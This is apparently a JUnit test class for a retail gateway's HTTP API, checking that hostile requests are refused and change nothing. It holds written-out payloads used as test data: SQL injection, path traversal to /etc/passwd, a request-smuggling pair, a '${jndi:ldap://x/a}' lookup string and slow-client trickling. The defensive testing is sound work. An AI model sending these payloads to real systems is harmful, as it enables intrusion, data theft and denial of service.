package io.storegateway.ingest;

import io.storegateway.ClosesTestGateways;
import io.storegateway.RawHttp;
import io.storegateway.TerminalClient;
import io.storegateway.TerminalClient.Reply;
import io.storegateway.TestGateway;
import io.storegateway.broker.Queues;
import io.storegateway.update.UpdateJson;

import com.fasterxml.jackson.databind.JsonNode;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Named;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.sql.Connection;
import java.sql.ResultSet;
import java.sql.SQLException;
import java.sql.Statement;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.concurrent.locks.LockSupport;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import java.util.stream.Stream;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

/**
 * Hostile input over HTTP (issue 6): for each kind of attack or accident, the status and the
 * contract's JSON error body (a short message that does not echo the input, never a stack trace),
 * nothing queued on {@code store.updates.outbound}, nothing written to the mirror, and the next good
 * update still goes through (202, then APPLIED at HQ). One gateway for the class, with short
 * time-outs for slow clients so those cases take seconds.
 */
@ExtendWith(ClosesTestGateways.class)
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class HostileInputTest {

    private static final Duration HEADER_TIMEOUT = Duration.ofMillis(2500);
    private static final Duration BODY_TIMEOUT = Duration.ofMillis(3000);
    private static final int MIB = 1024 * 1024;
    private static final String AT = "2026-11-27T10:00:00Z";
    /** A longest error answer: 100 field errors of a short message each. */
    private static final int MAX_ERROR_BODY = 16 * 1024;

    private TestGateway t;
    private TerminalClient terminal;
    private final AtomicInteger ids = new AtomicInteger();
    private final HttpClient http = HttpClient.newBuilder().version(HttpClient.Version.HTTP_1_1)
            .connectTimeout(Duration.ofSeconds(5)).build();

    @BeforeAll
    void start() {
        t = TestGateway.started("hostile-input", 10, Map.of(
                "gateway.http.request-header-timeout-ms", Long.toString(HEADER_TIMEOUT.toMillis()),
                "gateway.http.request-body-timeout-ms", Long.toString(BODY_TIMEOUT.toMillis())));
        terminal = t.terminal();
    }

    // --- bodies ---------------------------------------------------------------------------------

    static Stream<Arguments> hostileBodies() {
        return Stream.of(
                // not JSON, or not all of it
                refused("truncated JSON", json("{\"terminalId\":\"till-1\",\"type\":\"SET_PRICE\",\"sku\":\"SKU-0001\",\"pri"),
                        400, "validation_failed", null),
                refused("malformed JSON", json("{terminalId: till-1, type: SET_PRICE}"), 400, "validation_failed", null),
                refused("JSON then garbage", json(update("ADJUST_QUANTITY", "\"delta\":1") + "<script>"), 400,
                        "validation_failed", null),
                // content types
                refused("text/plain", body("text/plain", update("ADJUST_QUANTITY", "\"delta\":1")), 415,
                        "unsupported_media_type", null),
                refused("no Content-Type", body(null, update("ADJUST_QUANTITY", "\"delta\":1")), 415,
                        "unsupported_media_type", null),
                refused("multipart/form-data", body("multipart/form-data; boundary=XyZ",
                        "--XyZ\r\nContent-Disposition: form-data; name=\"update\"; filename=\"u.json\"\r\n"
                                + "Content-Type: application/json\r\n\r\n" + update("ADJUST_QUANTITY", "\"delta\":1")
                                + "\r\n--XyZ--\r\n"), 415, "unsupported_media_type", null),
                refused("form-urlencoded", body("application/x-www-form-urlencoded",
                        "update=" + update("ADJUST_QUANTITY", "\"delta\":1")), 415, "unsupported_media_type", null),
                refused("application/json; charset=latin1", new Body("application/json; charset=latin1",
                        update("UPSERT_PRODUCT", "\"name\":\"Caf\u00e9\",\"price\":1.00,\"quantity\":1")
                                .getBytes(StandardCharsets.ISO_8859_1)), 415, "unsupported_media_type", null),
                refused("application/json-patch+json", body("application/json-patch+json",
                        update("ADJUST_QUANTITY", "\"delta\":1")), 415, "unsupported_media_type", null),
                refused("application/jsonx", body("application/jsonx", update("ADJUST_QUANTITY", "\"delta\":1")), 415,
                        "unsupported_media_type", null),
                // numbers
                refused("price 1e400", json(update("SET_PRICE", "\"price\":1e400")), 400, "validation_failed", "price"),
                refused("price 1e-400", json(update("SET_PRICE", "\"price\":1e-400")), 400, "validation_failed", "price"),
                refused("price 1e40099999999999999999999 (an exponent beyond BigDecimal)",
                        json(update("SET_PRICE", "\"price\":1e40099999999999999999999")), 400, "validation_failed", null),
                refused("quantity 1e1000", json(update("SET_QUANTITY", "\"quantity\":1e1000")), 400, "validation_failed",
                        "quantity"),
                refused("quantity of 1,000 digits", json(update("SET_QUANTITY", "\"quantity\":1" + "0".repeat(999))), 400,
                        "validation_failed", null),
                refused("delta of 100,000 digits", json(update("ADJUST_QUANTITY", "\"delta\":" + "9".repeat(100_000))), 400,
                        "validation_failed", null),
                refused("baseVersion 2^63", json(update("SET_PRICE", "\"price\":1.00,\"baseVersion\":9223372036854775808")),
                        400, "validation_failed", "baseVersion"),
                refused("price NaN", json(update("SET_PRICE", "\"price\":NaN")), 400, "validation_failed", null),
                refused("price Infinity", json(update("SET_PRICE", "\"price\":Infinity")), 400, "validation_failed", null),
                refused("delta -Infinity", json(update("ADJUST_QUANTITY", "\"delta\":-Infinity")), 400, "validation_failed",
                        null),
                refused("price \"NaN\" as a string", json(update("SET_PRICE", "\"price\":\"NaN\"")), 400,
                        "validation_failed", "price"),
                // nesting and shape
                refused("10,000 [", json("[".repeat(10_000)), 400, "validation_failed", null),
                refused("10,000 [ closed", json("[".repeat(10_000) + "]".repeat(10_000)), 400, "validation_failed", null),
                refused("10,000 { in a field", json(update("SET_PRICE", "\"price\":" + "{\"a\":".repeat(10_000) + "1"
                        + "}".repeat(10_000))), 400, "validation_failed", null),
                refused("an update of 20,000 fields", json("{" + IntStream.range(0, 20_000)
                        .mapToObj(i -> "\"f" + i + "\":" + i).collect(Collectors.joining(",")) + "}"), 400,
                        "validation_failed", null),
                refused("501 updates", json(IntStream.range(0, 501).mapToObj(i -> update("ADJUST_QUANTITY", "\"delta\":1"))
                        .collect(Collectors.joining(",", "[", "]"))), 413, "payload_too_large", null),
                refused("200,000 empty objects", json(IntStream.range(0, 200_000).mapToObj(i -> "{}")
                        .collect(Collectors.joining(",", "[", "]"))), 413, "payload_too_large", null),
                refused("1 MiB + 1 of whitespace", json(update("ADJUST_QUANTITY", "\"delta\":1")
                        + " ".repeat(MIB + 1 - update("ADJUST_QUANTITY", "\"delta\":1").length())), 413, "payload_too_large", null),
                refused("10 MiB with Content-Length", json("[" + " ".repeat(10 * MIB) + "]"), 413, "payload_too_large", null),
                // encodings and characters
                refused("invalid UTF-8 (a lone continuation byte)", new Body("application/json",
                        concat(updateStart("UPSERT_PRODUCT", "\"name\":\"Mil"), new byte[] {(byte) 0x80},
                                "k\",\"price\":1.00,\"quantity\":1}".getBytes(StandardCharsets.UTF_8))),
                        400, "validation_failed", null),
                refused("overlong UTF-8 for / in a SKU", new Body("application/json", concat(
                        "{\"terminalId\":\"till-1\",\"type\":\"ADJUST_QUANTITY\",\"delta\":1,\"occurredAt\":\"2026-11-27T10:00:00Z\",\"sku\":\"..".getBytes(StandardCharsets.UTF_8),
                        new byte[] {(byte) 0xC0, (byte) 0xAF}, "..\"}".getBytes(StandardCharsets.UTF_8))),
                        400, "validation_failed", null),
                refused("a UTF-8-encoded surrogate", new Body("application/json", concat(
                        updateStart("UPSERT_PRODUCT", "\"name\":\"Mil"), new byte[] {(byte) 0xED, (byte) 0xA0, (byte) 0x80},
                        "k\",\"price\":1.00,\"quantity\":1}".getBytes(StandardCharsets.UTF_8))), 400, "validation_failed", null),
                refused("UTF-16", new Body("application/json", update("ADJUST_QUANTITY", "\"delta\":1")
                        .getBytes(StandardCharsets.UTF_16)), 400, "validation_failed", null),
                refused("a raw NUL byte in a string", json(update("ADJUST_QUANTITY", "\"delta\":1")
                        .replace("till-1", "till\u00001")), 400, "validation_failed", null),
                refused("\\u0000 in terminalId", json(update("ADJUST_QUANTITY", "\"delta\":1").replace("till-1", "till\\u00001")),
                        400, "validation_failed", "terminalId"),
                refused("\\u001b in name", json(update("UPSERT_PRODUCT",
                        "\"name\":\"\\u001b[31mMilk\\u001b[0m\",\"price\":1.00,\"quantity\":1")), 400, "validation_failed", "name"),
                refused("a right-to-left override in name", json(update("UPSERT_PRODUCT",
                        "\"name\":\"Milk \\u202egnp.exe\",\"price\":1.00,\"quantity\":1")), 400, "validation_failed", "name"),
                refused("a line separator in terminalId", json(update("ADJUST_QUANTITY", "\"delta\":1")
                        .replace("till-1", "till\\u2028INFO forged log line")), 400, "validation_failed", "terminalId"),
                refused("a terminalId of 64 emoji (128 UTF-16 units)", json(update("ADJUST_QUANTITY", "\"delta\":1")
                        .replace("till-1", "\uD83D\uDE00".repeat(64))), 400, "validation_failed", "terminalId"),
                // injection and traversal in the fields with a format
                refused("SQL in sku", json(update("ADJUST_QUANTITY", "\"delta\":1").replace("SKU-0001", "SKU-0001' OR '1'='1")),
                        400, "validation_failed", "sku"),
                refused("SQL comment in sku", json(update("ADJUST_QUANTITY", "\"delta\":1").replace("SKU-0001", "x';DROP TABLE product;--")),
                        400, "validation_failed", "sku"),
                refused("path traversal in sku", json(update("ADJUST_QUANTITY", "\"delta\":1").replace("SKU-0001", "../../etc/passwd")),
                        400, "validation_failed", "sku"),
                refused("encoded path traversal in sku", json(update("ADJUST_QUANTITY", "\"delta\":1")
                        .replace("SKU-0001", "..%2F..%2Fetc%2Fpasswd")), 400, "validation_failed", "sku"),
                refused("SQL in updateId", json("{\"updateId\":\"1' OR 1=1 --\"," + update("ADJUST_QUANTITY", "\"delta\":1").substring(1)),
                        400, "validation_failed", "updateId"),
                refused("path traversal in updateId", json("{\"updateId\":\"../../config/users.properties\","
                        + update("ADJUST_QUANTITY", "\"delta\":1").substring(1)), 400, "validation_failed", "updateId"),
                // keys
                refused("a duplicate key", json(update("ADJUST_QUANTITY", "\"delta\":1,\"delta\":-1000")), 400,
                        "validation_failed", null),
                refused("a duplicate key in the 2nd update", json("[" + update("ADJUST_QUANTITY", "\"delta\":1") + ","
                        + update("ADJUST_QUANTITY", "\"sku\":\"SKU-0002\",\"delta\":1") + "]"), 400, "validation_failed", null),
                refused("an unknown field", json(update("ADJUST_QUANTITY", "\"delta\":1,\"isAdmin\":true")), 400,
                        "validation_failed", "isAdmin"),
                refused("an unknown field with a 200,000-character name", json(update("ADJUST_QUANTITY",
                        "\"delta\":1,\"" + "x".repeat(200_000) + "\":1")), 400, "validation_failed", null),
                refused("__proto__", json(update("ADJUST_QUANTITY", "\"delta\":1,\"__proto__\":{\"admin\":true}")), 400,
                        "validation_failed", "__proto__"),
                refused("force from a terminal", json(update("SET_PRICE", "\"price\":1.00,\"force\":true")), 400,
                        "validation_failed", "force"));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("hostileBodies")
    void aHostileBodyIsRefusedAndChangesNothing(Body body, int status, String error, String field) throws Exception {
        Held before = heldOnceQuiet();

        HttpRequest.Builder request = HttpRequest.newBuilder(URI.create(t.baseUrl() + "/api/v1/updates"))
                .timeout(Duration.ofSeconds(30))
                .header("Authorization", "Bearer " + TestGateway.TERMINAL_TOKEN)
                .POST(HttpRequest.BodyPublishers.ofByteArray(body.bytes()));
        if (body.contentType() != null) {
            request.header("Content-Type", body.contentType());
        }
        HttpResponse<String> reply = http.send(request.build(), HttpResponse.BodyHandlers.ofString());

        JsonNode json = assertErrorBody(reply.statusCode(), reply.body(), status, error);
        if (field != null) {
            assertThat(json.path("details").findValuesAsText("field")).as(reply.body()).contains(field);
        }
        assertNothingChangedAndStillServing(before);
    }

    @Test
    void aChunkedBodyOfTenMibIsRefusedWithoutReadingItAll() {
        Held before = heldOnceQuiet();
        RawHttp.Response response;
        try (RawHttp raw = new RawHttp(t.settings().httpPort(), Duration.ofSeconds(20))) {
            raw.write(postHead("Transfer-Encoding: chunked\r\n"));
            CompletableFuture<Void> writer = CompletableFuture.runAsync(() -> {
                byte[] chunk = ("10000\r\n" + " ".repeat(0x10000) + "\r\n").getBytes(StandardCharsets.US_ASCII);
                for (int i = 0; i < 160 && raw.write(chunk); i++) {
                    // 160 chunks of 64 KiB: 10 MiB, unless the server stops listening first
                }
                raw.write("0\r\n\r\n");
            });
            response = raw.readResponse();
            writer.orTimeout(30, TimeUnit.SECONDS).exceptionally(e -> null).join();
        }

        assertThat(response).as("an answer before the connection closes").isNotNull();
        assertErrorBody(response.status(), response.body(), 413, "payload_too_large");
        assertNothingChangedAndStillServing(before);
    }

    @Test
    void aBodyLongerThanItsContentLengthDoesNotSmuggleASecondRequest() {
        Held before = heldOnceQuiet();
        String update = update("ADJUST_QUANTITY", "\"delta\":1");
        String smuggled = "POST /api/v1/updates HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
                + "Content-Length: " + update.length() + "\r\n\r\n" + update;
        List<RawHttp.Response> responses = new ArrayList<>();
        try (RawHttp raw = new RawHttp(t.settings().httpPort(), Duration.ofSeconds(10))) {
            // Both a Content-Length and chunked: the classic request-smuggling pair (RFC 9112 6.3).
            raw.write(postHead("Content-Length: 4\r\nTransfer-Encoding: chunked\r\n") + "0\r\n\r\n" + smuggled);
            for (RawHttp.Response r = raw.readResponse(); r != null && responses.size() < 3; r = raw.readResponse()) {
                responses.add(r);
                if ("close".equalsIgnoreCase(r.headers().get("connection"))) {
                    break;
                }
            }
        } catch (UncheckedIOException e) {
            // the server closed the connection: nothing more was taken from it
        }

        // Whatever the server made of it, the smuggled request, which carries no token, stored nothing.
        assertThat(responses).noneMatch(r -> r.status() == 202);
        assertNothingChangedAndStillServing(before);
    }

    // --- free text is stored as text --------------------------------------------------------------

    static Stream<Arguments> hostileButValidText() {
        return Stream.of(
                Arguments.of(Named.of("SQL", "x'); DROP TABLE settled_update; --")),
                Arguments.of(Named.of("path traversal", "../../config/users.properties")),
                Arguments.of(Named.of("HTML", "<script>alert(1)</script>")),
                Arguments.of(Named.of("a format string", "%s%s%s%n ${jndi:ldap://x/a}")),
                Arguments.of(Named.of("emoji up to the 64-unit limit", "\uD83D\uDE00".repeat(16) + "t".repeat(32))));
    }

    /**
     * terminalId and name are free text (docs/HTTP-API.md and docs/JMS.md: the update message): such strings are legal there, and must be
     * stored and shown as the text they are, never run as SQL, a path or a template.
     */
    @ParameterizedTest(name = "{0} as terminalId and name")
    @MethodSource("hostileButValidText")
    void freeTextThatLooksLikeAnAttackIsStoredAsText(String text) throws Exception {
        long products = count("SELECT COUNT(*) FROM product");
        String updateId = id("text");
        String sku = "SKU-T" + ids.incrementAndGet();
        String body = "{\"updateId\":\"" + updateId + "\",\"terminalId\":" + UpdateJson.MAPPER.writeValueAsString(text)
                + ",\"type\":\"UPSERT_PRODUCT\",\"sku\":\"" + sku + "\",\"name\":" + UpdateJson.MAPPER.writeValueAsString(text)
                + ",\"price\":1.00,\"quantity\":1,\"occurredAt\":\"" + AT + "\"}";

        Reply reply = terminal.post(body);

        assertThat(reply.status()).as(reply.body()).isEqualTo(202);
        await().atMost(Duration.ofSeconds(20)).untilAsserted(() ->
                assertThat(terminal.update(updateId).path("status").asText()).isEqualTo("APPLIED"));
        assertThat(terminal.product(sku).path("name").asText()).isEqualTo(text);
        try (Connection c = t.gateway().mirror().dataSource().getConnection();
             var ps = c.prepareStatement("SELECT terminal_id FROM settled_update WHERE update_id = ?")) {
            ps.setString(1, updateId);
            try (ResultSet rs = ps.executeQuery()) {
                assertThat(rs.next()).isTrue();
                assertThat(rs.getString(1)).isEqualTo(text);
            }
        }
        assertThat(count("SELECT COUNT(*) FROM product")).isEqualTo(products + 1);
    }

    // --- path parameters ----------------------------------------------------------------------------

    static Stream<Arguments> hostilePaths() {
        return Stream.of(
                path("GET", "/api/v1/products/..%2F..%2Fetc%2Fpasswd", false),
                path("GET", "/api/v1/products/%2e%2e%2f%2e%2e%2fetc%2fpasswd", false),
                path("GET", "/api/v1/products/SKU-0001'%20OR%20'1'='1", false),
                path("GET", "/api/v1/products/SKU-0001%00", false),
                path("GET", "/api/v1/products/%C0%AF%C0%AFetc%C0%AFpasswd", false),
                path("GET", "/api/v1/products/SKU-%FF%FE", false),
                path("GET", "/api/v1/updates/'%20OR%201=1%20--", false),
                path("GET", "/api/v1/updates/x';DROP%20TABLE%20settled_update;--", false),
                path("GET", "/api/v1/updates/" + "a".repeat(3000), false),
                path("POST", "/admin/v1/dlq/ID:x';DROP/replay", true),
                path("DELETE", "/admin/v1/dlq/ID:x'%20OR%20'1'='1", true),
                path("POST", "/admin/v1/invalid/ID:1%20OR%20JMSMessageID%20IS%20NOT%20NULL/replay", true),
                path("POST", "/admin/v1/conflicts/1;DROP/resolve", true),
                path("POST", "/admin/v1/conflicts/1%20OR%201=1/resolve", true),
                path("POST", "/admin/v1/conflicts/99999999999999999999999/resolve", true),
                path("POST", "/admin/v1/routes/..%2F..%2Fconfig%2Fusers.properties/rollback", true),
                path("POST", "/admin/v1/routes/..%2Fpom.xml/rollback", true),
                path("POST", "/admin/v1/routes/%2Fetc%2Fpasswd/rollback", true),
                path("POST", "/admin/v1/routes/..%2F..%2Fconfig%2Fusers.properties/restore", true),
                path("POST", "/admin/v1/routes/%2Fetc%2Fpasswd/restore", true),
                path("GET", "/api/v1/../../config/users.properties", false),
                path("GET", "/api/v1/%2e%2e/%2e%2e/config/users.properties", false),
                path("GET", "/no/such/thing", false));
    }

    @ParameterizedTest(name = "{0} {1}")
    @MethodSource("hostilePaths")
    void aHostilePathParameterFindsNothingAndChangesNothing(String method, String path, boolean asAdmin) throws Exception {
        Held before = heldOnceQuiet();
        byte[] users = Files.readAllBytes(Path.of("config/users.properties"));
        Map<Path, String> routes = routeFiles();

        HttpRequest.BodyPublisher body = method.equals("POST") && path.contains("/conflicts/")
                ? HttpRequest.BodyPublishers.ofString("{\"choose\":\"LOCAL\"}") : HttpRequest.BodyPublishers.noBody();
        HttpResponse<String> reply = http.send(HttpRequest.newBuilder(URI.create(t.baseUrl() + path))
                .timeout(Duration.ofSeconds(30))
                .header("Authorization", "Bearer " + (asAdmin ? TestGateway.ADMIN_TOKEN : TestGateway.TERMINAL_TOKEN))
                .header("Content-Type", "application/json")
                .method(method, body).build(), HttpResponse.BodyHandlers.ofString());

        assertErrorBody(reply.statusCode(), reply.body(), 404, "not_found");
        assertThat(held()).isEqualTo(before);
        assertThat(Files.readAllBytes(Path.of("config/users.properties"))).isEqualTo(users);
        assertThat(routeFiles()).isEqualTo(routes);
        assertStillServesAGoodUpdate();
    }

    static Stream<String> hostileQueries() {
        return Stream.of("limit=-1", "limit=0", "limit=99999999999", "limit=1e3", "limit=abc", "limit=1%00",
                "after=..%2F..%2Fetc%2Fpasswd", "after=x'%20OR%201=1%20--", "after=" + "a".repeat(100), "limit=1&limit=2");
    }

    @ParameterizedTest(name = "/api/v1/products?{0}")
    @MethodSource("hostileQueries")
    void aHostileQueryIsRefusedAs400(String query) {
        Reply reply = terminal.get("/api/v1/products?" + query);

        assertErrorBody(reply.status(), reply.body(), 400, "bad_request");
    }

    static Stream<Arguments> hostileAdminBodies() {
        return Stream.of(
                Arguments.of(Named.of("10,000 [", "[".repeat(10_000) + "]".repeat(10_000)), 400, "validation_failed"),
                Arguments.of(Named.of("a duplicate key", "{\"choose\":\"HQ\",\"choose\":\"LOCAL\"}"), 400, "validation_failed"),
                Arguments.of(Named.of("not JSON", "choose=HQ"), 400, "validation_failed"),
                Arguments.of(Named.of("an exponent beyond BigDecimal", "{\"choose\":\"CUSTOM\",\"record\":{\"price\":1e40099999999999999999999}}"),
                        400, "validation_failed"),
                Arguments.of(Named.of("3 MiB", "{\"choose\":\"" + "H".repeat(3 * MIB) + "\"}"), 413, "payload_too_large"));
    }

    @ParameterizedTest(name = "{0} -> {1}")
    @MethodSource("hostileAdminBodies")
    void aHostileAdminBodyIsRefused(String body, int status, String error) throws Exception {
        Held before = heldOnceQuiet();

        HttpResponse<String> reply = http.send(HttpRequest.newBuilder(URI.create(t.baseUrl() + "/admin/v1/conflicts/1/resolve"))
                .timeout(Duration.ofSeconds(30))
                .header("Authorization", "Bearer " + TestGateway.ADMIN_TOKEN)
                .header("Content-Type", "application/json")
                .POST(HttpRequest.BodyPublishers.ofString(body)).build(), HttpResponse.BodyHandlers.ofString());

        assertErrorBody(reply.statusCode(), reply.body(), status, error);
        assertThat(held()).isEqualTo(before);
    }

    @Test
    void theConsoleServesItsOnePageWhateverThePath() throws Exception {
        for (String path : List.of("/console/..%2F..%2Fconfig%2Fusers.properties", "/console/../config/users.properties",
                "/console/%2e%2e/%2e%2e/pom.xml")) {
            HttpResponse<String> reply = http.send(HttpRequest.newBuilder(URI.create(t.baseUrl() + path)).GET().build(),
                    HttpResponse.BodyHandlers.ofString());

            assertThat(reply.body()).as(path).doesNotContain("sha256:").doesNotContain("<project");
        }
    }

    // --- methods and headers ------------------------------------------------------------------------

    static Stream<Arguments> wrongMethods() {
        return Stream.of(
                Arguments.of("GET", "/api/v1/updates"),
                Arguments.of("PUT", "/api/v1/updates"),
                Arguments.of("DELETE", "/api/v1/updates"),
                Arguments.of("PATCH", "/api/v1/updates"),
                Arguments.of("TRACE", "/api/v1/updates"),
                Arguments.of("POST", "/api/v1/products/SKU-0001"),
                Arguments.of("DELETE", "/api/v1/products/SKU-0001"),
                Arguments.of("PUT", "/api/v1/updates/x-1"),
                Arguments.of("PUT", "/admin/v1/status"),
                Arguments.of("GET", "/admin/v1/reconcile"));
    }

    @ParameterizedTest(name = "{0} {1}")
    @MethodSource("wrongMethods")
    void aMethodTheResourceDoesNotTakeIs405(String method, String path) {
        Held before = heldOnceQuiet();
        RawHttp.Response response;
        // By hand: java.net.http refuses to send TRACE and friends with some bodies.
        try (RawHttp raw = new RawHttp(t.settings().httpPort(), Duration.ofSeconds(10))) {
            String update = update("ADJUST_QUANTITY", "\"delta\":1");
            raw.write(method + " " + path + " HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer " + TestGateway.ADMIN_TOKEN
                    + "\r\nContent-Type: application/json\r\nContent-Length: " + update.length() + "\r\nConnection: close\r\n\r\n"
                    + update);
            response = raw.readResponse();
        }

        assertThat(response).isNotNull();
        assertErrorBody(response.status(), response.body(), 405, "method_not_allowed");
        assertThat(response.body()).doesNotContain(TestGateway.ADMIN_TOKEN);
        assertNothingChangedAndStillServing(before);
    }

    static Stream<Arguments> oversizedRequestHeads() {
        return Stream.of(
                Arguments.of(Named.of("a 100 KiB header", "X-Junk: " + "j".repeat(100 * 1024) + "\r\n"), 431, "headers_too_large", "/api/v1/updates"),
                Arguments.of(Named.of("2,000 headers", IntStream.range(0, 2000).mapToObj(i -> "X-H" + i + ": v\r\n")
                        .collect(Collectors.joining())), 431, "headers_too_large", "/api/v1/updates"),
                Arguments.of(Named.of("a 64 KiB Authorization header", "Authorization: Bearer " + "a".repeat(64 * 1024) + "\r\n"),
                        431, "headers_too_large", "/api/v1/updates"),
                Arguments.of(Named.of("a 10 KiB URL", ""), 414, "uri_too_long", "/api/v1/products/" + "S".repeat(10 * 1024)));
    }

    @ParameterizedTest(name = "{0} -> {1}")
    @MethodSource("oversizedRequestHeads")
    void anOversizedRequestHeadIsRefusedWithJson(String extraHeaders, int status, String error, String path) {
        Held before = heldOnceQuiet();
        RawHttp.Response response;
        try (RawHttp raw = new RawHttp(t.settings().httpPort(), Duration.ofSeconds(10))) {
            String update = update("ADJUST_QUANTITY", "\"delta\":1");
            raw.write("POST " + path + " HTTP/1.1\r\nHost: localhost\r\n" + extraHeaders
                    + (extraHeaders.startsWith("Authorization") ? "" : "Authorization: Bearer " + TestGateway.TERMINAL_TOKEN + "\r\n")
                    + "Content-Type: application/json\r\nContent-Length: " + update.length() + "\r\n\r\n" + update);
            response = raw.readResponse();
            assertThat(raw.closedWithin(Duration.ofSeconds(5))).as("connection closed after the answer").isTrue();
        }

        assertThat(response).isNotNull();
        assertErrorBody(response.status(), response.body(), status, error);
        assertNothingChangedAndStillServing(before);
    }

    // --- slow clients -------------------------------------------------------------------------------

    @Test
    void aClientTricklingItsHeadersIsCutOff() {
        Held before = heldOnceQuiet();
        byte[] head = ("POST /api/v1/updates HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer " + TestGateway.TERMINAL_TOKEN
                + "\r\nContent-Type: application/json\r\nX-Slow: " + "s".repeat(200)).getBytes(StandardCharsets.US_ASCII);
        long started = System.nanoTime();
        boolean cutOff = false;
        try (RawHttp raw = new RawHttp(t.settings().httpPort(), Duration.ofSeconds(10))) {
            // A byte every 100 ms: never idle for long, never done.
            for (int i = 0; i < head.length && !cutOff; i++) {
                if (!raw.write(new byte[] {head[i]}) || raw.closedWithin(Duration.ofMillis(100))) {
                    cutOff = true;
                }
            }
        }
        Duration took = Duration.ofNanos(System.nanoTime() - started);

        assertThat(cutOff).as("connection closed while the headers trickled in").isTrue();
        assertThat(took).as("closed by the header time-out").isBetween(HEADER_TIMEOUT.minusMillis(200), HEADER_TIMEOUT.plusSeconds(3));
        assertNothingChangedAndStillServing(before);
    }

    @Test
    void aClientTricklingItsBodyGets408AndIsCutOff() {
        Held before = heldOnceQuiet();
        String update = update("ADJUST_QUANTITY", "\"delta\":1");
        RawHttp.Response response = null;
        long started;
        try (RawHttp raw = new RawHttp(t.settings().httpPort(), Duration.ofSeconds(10))) {
            raw.write(postHead("Content-Length: " + update.length() + "\r\n"));
            started = System.nanoTime();
            byte[] body = update.getBytes(StandardCharsets.US_ASCII);
            // A byte every 100 ms, never the last one; the 408 is read once the server stops taking them.
            for (int i = 0; i < body.length - 1 && raw.write(new byte[] {body[i]}) && !raw.answered(); i++) {
                pace(Duration.ofMillis(100));
            }
            response = raw.readResponse();
        } catch (UncheckedIOException e) {
            started = 0;
        }
        Duration took = Duration.ofNanos(System.nanoTime() - started);

        assertThat(response).as("a 408 before the close").isNotNull();
        assertErrorBody(response.status(), response.body(), 408, "request_timeout");
        assertThat(took).isBetween(BODY_TIMEOUT.minusMillis(200), BODY_TIMEOUT.plusSeconds(3));
        assertNothingChangedAndStillServing(before);
    }

    @Test
    void silentConnectionsAreClosedAndDoNotKeepOthersOut() {
        List<RawHttp> silent = new ArrayList<>();
        try {
            for (int i = 0; i < 200; i++) {
                silent.add(new RawHttp(t.settings().httpPort(), Duration.ofSeconds(10)));
            }
            assertStillServesAGoodUpdate();
            long started = System.nanoTime();
            assertThat(silent.get(0).closedWithin(HEADER_TIMEOUT.plusSeconds(3))).as("a silent connection is closed").isTrue();
            assertThat(Duration.ofNanos(System.nanoTime() - started)).isLessThan(HEADER_TIMEOUT.plusSeconds(3));
            assertThat(silent).allMatch(s -> s.closedWithin(Duration.ofSeconds(2)));
        } finally {
            silent.forEach(RawHttp::close);
        }
    }

    @Test
    void aKeptAliveConnectionServesRequestsInARowAndIsClosedWhenIdle() {
        String update = update("ADJUST_QUANTITY", "\"delta\":1");
        try (RawHttp raw = new RawHttp(t.settings().httpPort(), Duration.ofSeconds(10))) {
            for (int i = 0; i < 3; i++) {
                String updateId = id("keep-alive");
                String body = update.replace("{", "{\"updateId\":\"" + updateId + "\",");
                raw.write(postHead("Content-Length: " + body.length() + "\r\n") + body);
                RawHttp.Response r = raw.readResponse();
                assertThat(r.status()).as(r.body()).isEqualTo(202);
                // Slower than one header time-out between requests in total, but each gap is short.
                assertThat(raw.closedWithin(HEADER_TIMEOUT.dividedBy(2))).isFalse();
            }
            assertThat(raw.closedWithin(HEADER_TIMEOUT.multipliedBy(2).plusSeconds(2))).as("idle connection closed").isTrue();
        }
    }

    // --- helpers --------------------------------------------------------------------------------------

    /** A body and the Content-Type it is sent with (null: none). */
    record Body(String contentType, byte[] bytes) {
        @Override
        public String toString() {
            return contentType + ", " + bytes.length + " bytes";
        }
    }

    private static Arguments refused(String name, Body body, int status, String error, String field) {
        return Arguments.of(Named.of(name, body), status, error, field);
    }

    private static Body json(String body) {
        return body("application/json", body);
    }

    private static Body body(String contentType, String body) {
        return new Body(contentType, body.getBytes(StandardCharsets.UTF_8));
    }

    private static Arguments path(String method, String path, boolean asAdmin) {
        return Arguments.of(method, path, asAdmin);
    }

    /** The head of a terminal's {@code POST /api/v1/updates} with the given extra header lines. */
    private static String postHead(String moreHeaders) {
        return "POST /api/v1/updates HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer " + TestGateway.TERMINAL_TOKEN
                + "\r\nContent-Type: application/json\r\n" + moreHeaders + "\r\n";
    }

    /** A valid update of the type on SKU-0001 with the type's fields given as raw JSON. */
    private static String update(String type, String fields) {
        return "{\"terminalId\":\"till-1\",\"type\":\"" + type + "\",\"sku\":\"SKU-0001\",\"occurredAt\":\"" + AT + "\","
                + fields + "}";
    }

    /** The start of an update, as bytes, to be finished by hand. */
    private static byte[] updateStart(String type, String fieldsStart) {
        return ("{\"terminalId\":\"till-1\",\"type\":\"" + type + "\",\"sku\":\"SKU-0001\",\"occurredAt\":\"" + AT + "\","
                + fieldsStart).getBytes(StandardCharsets.UTF_8);
    }

    private static byte[] concat(byte[]... parts) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        for (byte[] p : parts) {
            out.writeBytes(p);
        }
        return out.toByteArray();
    }

    /** The contract's error body: JSON with a code and a short message; no stack trace, no echo. */
    static JsonNode assertErrorBody(int actualStatus, String body, int status, String error) {
        assertThat(actualStatus).as("status; body was %s", abbreviated(body)).isEqualTo(status);
